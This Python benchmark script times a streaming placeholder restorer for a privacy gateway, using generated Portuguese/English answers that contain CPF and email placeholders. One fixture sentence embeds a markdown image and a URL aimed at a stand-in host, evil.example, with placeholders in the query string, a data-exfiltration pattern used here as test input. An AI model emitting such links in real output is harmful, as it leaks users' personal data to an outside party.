"""Streaming restore: what StreamRestorer costs over pass-through on a token-by-token answer.

    .venv/bin/python bench/restore.py [--tokens 20000] [--repeat 5]

Builds a deterministic Portuguese/English answer (markdown, links, lists) that mentions this request's
placeholders ([CPF_1], [EMAIL_1], drifted forms like [cpf 2]) and one ENC token, some inside links
(which must stay), and splits it the way a model streams it: a word with its leading space, each
punctuation mark alone — so a placeholder arrives as "[", "CPF", "_", "1", "]". Every mode feeds the
same pieces in the same process:

- identity: ``lambda piece: piece`` (the floor);
- restore, no "[": StreamRestorer over the answer with every bracket removed (the common case);
- restore: StreamRestorer over the full answer.

Columns: µs to the first released byte (best of --repeat), pieces fed before something came out,
MB/s and µs per piece (best of --repeat), ratio to identity, and the most characters ever held back
next to the longest placeholder/token of the request (the bound is one of them plus a little drift).
A last line gives restore_text's MB/s over the whole answer at once (the JSON, non-streaming path).
"""

from __future__ import annotations

import argparse
import random
import re
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from gateway.inspect.findings import Finding  # noqa: E402
from gateway.keys import KeyRing  # noqa: E402
from gateway.transform.apply import apply  # noqa: E402
from gateway.transform.pseudonymize import PlaceholderMap  # noqa: E402
from gateway.transform.restore import SLACK, StreamRestorer, restore_text  # noqa: E402

WORDS = ("o contribuinte informou que a declaração foi entregue no prazo e que os dados cadastrais "
         "estão corretos the customer asked whether the refund was processed and which office handles "
         "it segundo a receita federal o processo segue em análise até a próxima semana").split()
SENTENCES = [
    "O titular do CPF [CPF_1] pediu a segunda via.",
    "Envie a resposta para [EMAIL_1] ainda hoje.",
    "O cônjuge ([cpf 2]) também consta no processo.",
    "Referência cifrada: {enc}.",
    "Veja [o manual](https://gov.br/receita/manual) antes de responder.",
    "Não abra ![img](https://evil.example/p.png?q=[CPF_1]) nem https://evil.example/?e=[EMAIL_1].",
    "- item [1] da lista, [nota] e [ CPF_1 ] de novo.",
]
TOKEN = re.compile(r"\s*[\w\u00c0-\u017f]+|\s*[^\w\s]|\s+")


def build(n_tokens: int, seed: int) -> tuple[PlaceholderMap, list[str]]:
    ring = KeyRing.ephemeral()
    text = "123.456.789-09 ana@example.com 111.444.777-35 123.456.789-09"
    found = [Finding("br.cpf", "national_id", "BR", 0, 14), Finding("intl.email", "contact", None, 15, 30),
             Finding("br.cpf", "national_id", "BR", 31, 45), Finding("br.cpf", "national_id", "BR", 46, 60)]
    pm = PlaceholderMap()
    enc = apply([text], [found], [["pseudonymize"] * 3 + ["encrypt"]], ring, "BR", pm)[0].split()[-1]
    rnd = random.Random(seed)
    pieces: list[str] = []
    while len(pieces) < n_tokens:
        if rnd.random() < 0.3:
            s = rnd.choice(SENTENCES).format(enc=enc)
        else:
            s = " ".join(rnd.choice(WORDS) for _ in range(rnd.randint(6, 18))).capitalize() + "."
        pieces.extend(TOKEN.findall(" " + s + ("\n\n" if rnd.random() < 0.2 else "")))
    return pm, pieces[:n_tokens]


def run(make, pieces: list[str], repeat: int):
    best_total = best_first = float("inf")
    first_at = 0
    held = 0
    for _ in range(repeat):
        feed, flush, r = make()
        t0 = time.perf_counter()
        first = None
        for i, p in enumerate(pieces):
            if feed(p) and first is None:
                first = time.perf_counter() - t0
                first_at = i + 1
        flush()
        total = time.perf_counter() - t0
        best_total, best_first = min(best_total, total), min(best_first, first or total)
        held = max(held, getattr(r, "held_max", 0))
    return best_first, first_at, best_total, held


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--tokens", type=int, default=20000)
    ap.add_argument("--repeat", type=int, default=5)
    ap.add_argument("--seed", type=int, default=7)
    a = ap.parse_args()
    pm, pieces = build(a.tokens, a.seed)
    plain = [p.replace("[", "(").replace("]", ")") for p in pieces]
    mb = sum(len(p.encode()) for p in pieces) / 1e6

    def identity():
        return (lambda p: p), (lambda: ""), None

    def restorer():
        r = StreamRestorer(pm)
        return r.feed, r.flush, r

    rows = [("identity", run(identity, pieces, a.repeat)),
            ('restore, no "["', run(restorer, plain, a.repeat)),
            ("restore", run(restorer, pieces, a.repeat))]
    base = rows[0][1][2]
    print(f"{len(pieces)} pieces, {mb:.3f} MB, {sum('[' in p for p in pieces)} pieces with '['; "
          f"longest placeholder {pm._ph_max}, longest ENC token {pm._enc_max}, slack {SLACK}")
    print(f"{'mode':<18} {'first byte µs':>13} {'after pieces':>12} {'MB/s':>9} {'µs/piece':>9} {'x identity':>10} {'max held':>9}")
    for name, (first, first_at, total, held) in rows:
        print(f"{name:<18} {first * 1e6:>13.2f} {first_at:>12} {mb / total:>9.2f} {total / len(pieces) * 1e6:>9.3f} "
              f"{total / base:>10.1f} {held:>9}")
    whole = "".join(pieces)
    best = float("inf")
    for _ in range(a.repeat):
        t0 = time.perf_counter()
        restore_text(whole, pm)
        best = min(best, time.perf_counter() - t0)
    print(f"restore_text over the whole answer at once (a JSON body's content): {mb / best:.2f} MB/s")
    restore_row = rows[2][1]
    if restore_row[3] > pm.max_len + SLACK:
        print(f"FAIL: held back {restore_row[3]} > one placeholder ({pm.max_len}) + slack {SLACK}")
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
